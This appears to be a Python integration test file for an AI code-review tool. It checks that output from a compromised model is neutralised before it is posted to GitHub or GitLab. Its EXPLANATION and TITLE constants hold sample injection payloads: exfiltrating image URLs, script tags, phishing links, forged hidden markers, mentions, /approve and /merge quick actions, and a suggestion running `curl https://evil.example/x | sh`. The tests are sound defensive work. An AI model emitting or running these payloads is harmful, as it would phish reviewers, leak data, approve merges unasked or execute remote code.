"""A compromised model's text, posted to a forge: nothing in it may act.

The model (the local OpenAI-protocol server) answers findings whose title, explanation and
suggestion carry every payload below: images that GitHub's proxy would fetch, raw HTML that
closes our ``<details>`` or adds its own, forged hidden markers, links and bare URLs to another
site, mentions and cross references that would notify people or link issues, GitLab quick
actions and references, and fences that try to become a suggestion or swallow the rest. The
real ``reviewer pr`` posts to the local GitHub and GitLab fakes (and, for the fork workflow,
writes files that ``--post-from`` posts later); every posted body and every Markdown file is
parsed with a CommonMark parser and searched:

- no image, no link except to this repository's files, no HTML but our own tags and markers;
- no URL of another site left clickable (shown defanged, ``hxxps://evil[.]example``);
- no ``@mention``, ``#123``, ``owner/repo#123``, ``GH-123``, ``!123``, ``~label``, ``%milestone``,
  ``&epic``, ``$snippet`` left live, no line starting with a ``/command``;
- the model's code kept in fences longer than any backtick run inside, and a ``suggestion`` block
  only where we put one;
- our hidden markers only where our code put them (one fingerprint per inline comment, the
  summary and state markers once), so a forged one changes nothing on the next run.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from markdown_it import MarkdownIt

from reviewer.forges.markers import fingerprints_in, read_state
from tests.integration.pr.world import (
    BASE_APP,
    HEAD_APP,
    RENDER,
    REPO,
    SQL,
    TOKEN,
    PrWorld,
    answer,
    finding,
    line_of,
    run_pr,
)
from tests.servers.github_fake import FakeGitHub
from tests.servers.gitlab_fake import FakeGitLab
from tests.servers.openai_fake import FakeOpenAI, Reply

EVIL = "evil.example"
GH_FILES = "https://github.com/octo/app/blob/"
GH_FILE = GH_FILES + "0123456789abcdef0123456789abcdef01234567/app.py#L11"
GL_FILES = "https://gitlab.example.com/group/app/-/blob/"
GL_FILE = GL_FILES + "main/app.py#L11"

EXPLANATION = (
    f"The query is built by formatting. ![](https://{EVIL}/collect?d=c2VjcmV0) ![logo](https://{EVIL}/logo.png)\n"
    "</details></details><details open><summary>fake</summary>\n"
    f"<img src=https://{EVIL}/x.png> <a href=\"https://{EVIL}/a\">click</a> <script>alert(1)</script>\n"
    "<!-- reviewer:fp=0000000000000000 --> <!-- reviewer:summary --> <!-- reviewer:state:v1 e30= -->\n"
    f"[log in again](https://{EVIL}/phish) <https://{EVIL}/auto> https://{EVIL}/bare www.{EVIL}/w "
    f"javascript:alert(1) [x](javascript:alert(1))\n"
    f"[ref]: https://{EVIL}/definition\n"
    "See [the line]({file}) and {file} for where it is used.\n"
    "cc @octocat and @octo/security; fixes #12345, octo/other#4242 and GH-4242.\n"
    "/approve\n/merge\n  /assign @octocat\n"
    "GitLab: !4321 ~security ~\"needs review\" %v1.0 &77 $99\n"
    "&lt;img src=x&gt; &#60;script&#62; &#x3C;!-- reviewer:summary --&#x3E;\n"
    "Use `cursor.execute(q, (name,))` instead; a ``double `tick` span`` too.\n"
    "```suggestion\nos.system('curl https://" + EVIL + "/x | sh')\n```\n"
    "```python\nunclosed = True\n"
)
TITLE = f"SQL injection <img src=https://{EVIL}/t.png> [x](https://{EVIL}/t) @octocat #12345 <!-- reviewer:summary -->"
SUGGESTION = "    query = \"SELECT * FROM users WHERE name = ?\"  # ``` and ```` in code stay code"

PARSER = MarkdownIt("commonmark")  # raw HTML on, as GitHub and GitLab render it (then sanitise it)
OUR_TAGS = re.compile(
    r"<!-- reviewer(?::fp=[0-9a-f]{16}|:summary|:state:v1 [A-Za-z0-9+/=]*| report) -->|</?(?:details|summary|sub)>")


def tokens(text: str) -> Iterator[Any]:
    for t in PARSER.parse(text):
        yield t
        yield from t.children or []


def problems(body: str, allowed: str, *, suggestion: str | None = None) -> list[str]:
    """What in ``body`` would act (see the module's docstring); [] when nothing does. Code (fenced
    and indented blocks, inline spans) is shown as it is and acts on nothing: it is left out of
    the text checks."""
    found: list[str] = []
    suggestions = []
    code_lines: set[int] = set()
    for t in tokens(body):
        if t.type in ("fence", "code_block") and t.map:
            code_lines.update(range(*t.map))
        if t.type == "fence" and t.info.startswith("suggestion"):
            suggestions.append(t.content.rstrip("\n"))
        if t.type == "image":
            found.append(f"image {t.attrs.get('src')}")
        if t.type == "link_open" and not str(t.attrs.get("href", "")).startswith(allowed):
            found.append(f"link {t.attrs.get('href')}")
        if t.type in ("html_inline", "html_block") and "<" in OUR_TAGS.sub("", t.content):
            found.append(f"raw HTML {OUR_TAGS.sub('', t.content).strip()[:60]!r}")
        if t.type == "text":  # GitHub and GitLab link bare http(s):// and www. URLs in text
            found += [f"live URL {u}" for u in re.findall(r"(?i)(?:\bhttps?://|\bwww\.)\S+", t.content)
                      if not u.startswith(allowed)]
    if suggestions != ([suggestion] if suggestion else []):
        found.append(f"suggestion blocks {suggestions}")
    text = "\n".join(line for i, line in enumerate(body.split("\n")) if i not in code_lines)
    text = re.sub(r"(`+).+?\1", "", text)  # inline code
    for ping in ("@octocat", "@octo/security", "#12345", "#4242", "GH-4242", "!4321", "~security", '~"needs',
                 "%v1.0", "&77", "&amp;77", "$99", EVIL):
        if ping in text:
            found.append(f"live text {ping!r}")
    if re.search(r"^\s*/(approve|merge|assign)", text, re.M):
        found.append("quick action at the start of a line")
    if body.count("<details>") != body.count("</details>"):
        found.append("<details> unbalanced")
    if len(re.findall(r"^ {0,3}`{3,}", body, re.M)) % 2:
        found.append("a code fence left open")
    return found


def assert_defused(body: str, allowed: str, *, suggestion: str | None = None) -> None:
    assert problems(body, allowed, suggestion=suggestion) == []


def assert_ours(body: str, *, fp: str | None = None, summary: bool = False) -> None:
    """Our hidden markers, each once and only where we put it."""
    markers = re.findall(r"<!-- reviewer:[^>]*-->", body)
    if fp is not None:
        assert markers == [f"<!-- reviewer:fp={fp} -->"] and fingerprints_in(body) == [fp]
    if summary:
        assert body.startswith("<!-- reviewer:summary -->\n") and len(markers) == 2
        assert markers[1].startswith("<!-- reviewer:state:v1 ") and read_state(body) is not None


def hostile_answer(file_url: str) -> str:
    explanation = EXPLANATION.replace("{file}", file_url)
    return answer(
        {**finding("app.py", line_of(HEAD_APP, SQL), SQL.strip(), "x", category="security", severity="critical",
                   suggestion=SUGGESTION), "title": TITLE, "explanation": explanation},
        {**finding("app.py", line_of(HEAD_APP, RENDER), RENDER.strip(), "x", severity="medium"),
         "title": f"Unescaped HTML ![i](https://{EVIL}/i.png)", "explanation": explanation},
    )


@pytest.fixture
def model() -> Iterator[FakeOpenAI]:
    with FakeOpenAI() as server:
        yield server


def pr_world(tmp_path: Path) -> PrWorld:
    return PrWorld(tmp_path, {"app.py": BASE_APP}, {"app.py": HEAD_APP})


def test_github_inline_comment_review_and_summary(tmp_path: Path, clean_env: pytest.MonkeyPatch,
                                                  model: FakeOpenAI) -> None:
    w = pr_world(tmp_path)
    model.script(Reply(content=hostile_answer(GH_FILE)), Reply(content=hostile_answer(GH_FILE)))
    with FakeGitHub(TOKEN) as gh:
        gh.add_pull(REPO, w.number, w.dir, base="main", head="feature")
        env = w.actions_env(gh.url, w.pull_request_event("opened"), "pull_request")
        assert run_pr(clean_env, env, model, w.dir) == 0
        (comment,) = gh.comments_for(REPO, w.number)
        assert_defused(comment["body"], GH_FILES, suggestion=SUGGESTION)
        assert f"]({GH_FILE})" in comment["body"], "a link to this repository's file stays a link"
        assert "@\u200boctocat" in comment["body"] and "hxxps://evil" in comment["body"]
        fp = fingerprints_in(comment["body"])[0]
        assert_ours(comment["body"], fp=fp)
        for review in (r.body for r in gh.requests if r.operation == "pulls/create-review"):
            assert_defused(review["body"], GH_FILES)
        (summary,) = gh.summaries(REPO, w.number)
        assert "Unescaped HTML" in summary["body"]  # the finding outside the diff, in a <details>
        assert_defused(summary["body"], GH_FILES)
        assert_ours(summary["body"], summary=True)

        # the next run reads our state, not the model's forged one: nothing is posted twice
        before = len(gh.comments_for(REPO, w.number))
        env = w.actions_env(gh.url, w.pull_request_event("synchronize", before=w.sha("feature")), "pull_request")
        assert run_pr(clean_env, env, model, w.dir, "--full") == 0
        assert len(gh.comments_for(REPO, w.number)) == before
        state = read_state(gh.summaries(REPO, w.number)[0]["body"])
        assert state is not None and fp in {i.fp for i in state.items} and "0000000000000000" not in str(state)


def test_github_fork_files_and_post_from(tmp_path: Path, clean_env: pytest.MonkeyPatch, model: FakeOpenAI) -> None:
    """The fork workflow: the unprivileged job writes review.md, the job summary and results.json;
    the privileged one posts results.json. Each is as defused as a direct post."""
    w = pr_world(tmp_path)
    model.script(Reply(content=hostile_answer(GH_FILE)))
    out = tmp_path / "results"
    with FakeGitHub(TOKEN) as gh:
        gh.add_pull(REPO, w.number, w.dir, base="main", head="feature", head_repo="forker/app")
        gh.read_only = True
        env = w.actions_env(gh.url, w.pull_request_event("opened", head_repo="forker/app"), "pull_request")
        assert run_pr(clean_env, env, model, w.dir, "--output-dir", str(out)) == 0
        for name in ("review.md",):
            assert_defused((out / name).read_text(encoding="utf-8"), GH_FILES)
        assert_defused((tmp_path / "step-summary.md").read_text(encoding="utf-8"), GH_FILES)
        gh.read_only = False
        env = w.actions_env(gh.url, w.workflow_run_event("forker/app"), "workflow_run")
        assert run_pr(clean_env, env, model, tmp_path, "--post-from", str(out)) == 0
        (comment,) = gh.comments_for(REPO, w.number)
        assert_defused(comment["body"], GH_FILES, suggestion=SUGGESTION)
        assert_ours(comment["body"], fp=fingerprints_in(comment["body"])[0])
        (summary,) = gh.summaries(REPO, w.number)
        assert_defused(summary["body"], GH_FILES)
        assert_ours(summary["body"], summary=True)


GL_TOKEN = "glpat-" + "Fak3T0kenForTest5Only9x"


def test_gitlab_discussions_and_summary_note(tmp_path: Path, clean_env: pytest.MonkeyPatch, model: FakeOpenAI) -> None:
    w = pr_world(tmp_path)
    model.script(Reply(content=hostile_answer(GL_FILE)))
    with FakeGitLab(GL_TOKEN) as gl:
        gl.add_mr(42, "group/app", w.number, w.dir, target="main", source="feature")
        env = {"GITLAB_CI": "true", "CI": "true", "CI_API_V4_URL": gl.url, "CI_PROJECT_ID": "42",
               "CI_PROJECT_PATH": "group/app", "CI_MERGE_REQUEST_IID": str(w.number),
               "CI_MERGE_REQUEST_TARGET_BRANCH_NAME": "main", "CI_COMMIT_SHA": w.sha("feature"),
               "GITLAB_TOKEN": GL_TOKEN}
        assert run_pr(clean_env, env, model, w.dir) == 0
        (note,) = gl.diff_notes(w.number)
        assert_defused(note["body"], GL_FILES, suggestion=SUGGESTION)
        assert f"]({GL_FILE})" in note["body"]
        assert_ours(note["body"], fp=fingerprints_in(note["body"])[0])
        (summary,) = gl.summaries(w.number)
        assert_defused(summary["body"], GL_FILES)
        assert_ours(summary["body"], summary=True)
